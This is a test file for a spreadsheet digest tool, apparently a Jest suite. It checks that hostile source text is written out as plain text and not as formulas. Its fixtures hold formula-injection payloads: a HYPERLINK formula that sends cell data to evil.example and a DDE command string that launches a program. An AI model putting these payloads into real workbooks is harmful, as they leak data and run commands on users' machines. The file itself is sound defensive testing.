/**
 * Formula injection (issue 3: "Text from the source that starts with =, +, - or @ is written as text, never as a
 * formula"; issue 6): hostile text in a source's ref, name, heading and commentary cells shows as that text in the
 * digest from both writers: the CLI's ExcelJS output re-read, and the add-in's refresh on the fake Excel host (which
 * turns values typed with =, +, -, @ into formulas as Excel does, docs/excel-host-behaviour.md).
 */
import { ValueType, Workbook, type Worksheet } from 'exceljs';
import { runChild } from '../../bench/stats';
import { DEFAULT_SETTINGS } from '../../src/engine';
import { refreshDigest } from '../../src/excel/refreshDigest';
import { openInExcel, type ExcelSession } from '../support/excelSession';
import { tempDir } from '../xlsx/tempFiles';
import { CLI, ensureBuiltCli } from './builtCli';

const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")',
  command: "+cmd|' /C calc'!A0",
  arithmetic: '-1+1',
  at: '@SUM(A1:A2)',
  equals: '=1+1',
};

/** A source table whose text cells are hostile: names, a ref, a section heading and commentary (rules §1 roles). */
function hostileSource(): Workbook {
  const wb = new Workbook();
  const ws = wb.addWorksheet('PIs');
  ws.addRows([
    ['Ref', 'Indicator', 'Polarity', 'Target', 'Q2 2006/07', 'Q3 2006/07', 'Commentary'],
    [HOSTILE.at],
    [HOSTILE.equals, HOSTILE.hyperlink, 'Higher', 0.75, 0.7, 0.65, HOSTILE.command],
    ['CF/A2', HOSTILE.command, 'Lower', 10, 9, 12, HOSTILE.arithmetic],
    ['CF/A3', HOSTILE.arithmetic, 'Higher', 220, 175, 229, null],
    ['CF/A4', HOSTILE.at, 'Higher', 5, 6, 4, HOSTILE.hyperlink],
  ]);
  return wb;
}

/** Every hostile string must be shown, as exactly that text, in some cell of the digest. */
function expectShownAsText(values: unknown[]): void {
  for (const text of Object.values(HOSTILE)) expect(values).toContain(text);
}

function cellsOf(sheet: Worksheet): { type: ValueType; value: unknown; formula: unknown }[] {
  const cells: { type: ValueType; value: unknown; formula: unknown }[] = [];
  sheet.eachRow({ includeEmpty: false }, (row) =>
    row.eachCell({ includeEmpty: false }, (cell) =>
      cells.push({ type: cell.type, value: cell.value, formula: cell.formula }),
    ),
  );
  return cells;
}

describe('formula injection: hostile source text is written as text (issue 3, issue 6)', () => {
  const tmp = tempDir();
  let session: ExcelSession | undefined;
  beforeAll(ensureBuiltCli, 120_000);
  afterAll(() => tmp.remove());
  afterEach(() => session?.close());

  it('the CLI (ExcelJS writer): the --out workbook re-read holds the text and no formula', async () => {
    await hostileSource().xlsx.writeFile(tmp.file('hostile.xlsx'));
    const run = await runChild(CLI, [tmp.file('hostile.xlsx'), '--out', tmp.file('digest.xlsx')], {
      timeoutMs: 30_000,
    });
    expect(run.stderr).not.toMatch(/\n\s+at /);
    expect(run.code).toBe(0);
    const out = new Workbook();
    await out.xlsx.readFile(tmp.file('digest.xlsx'));
    const digest = out.worksheets.find((s) => s.name !== 'PIs');
    if (!digest) throw new Error('no digest sheet in the output');
    const cells = cellsOf(digest);
    expect(cells.filter((c) => c.type === ValueType.Formula || c.formula !== undefined)).toEqual([]);
    expect(cells.filter((c) => c.type === ValueType.Hyperlink)).toEqual([]);
    expectShownAsText(cells.map((c) => c.value));
  });

  it('the add-in (Office.js writer on the fake host): the digest sheet holds the text and no formula', async () => {
    session = await openInExcel(hostileSource());
    const result = await refreshDigest({ settings: DEFAULT_SETTINGS, now: new Date(Date.UTC(2007, 0, 15)) });
    if (!result.ok) throw new Error(result.error.message);
    const sheet = session.host.workbook.sheet(result.value.sheets[0]!.name);
    if (!sheet) throw new Error('no digest sheet');
    const cells = [...sheet.cells.values()];
    expect(cells.filter((c) => c.formula !== null)).toEqual([]);
    expectShownAsText(cells.map((c) => c.value));
  });
});
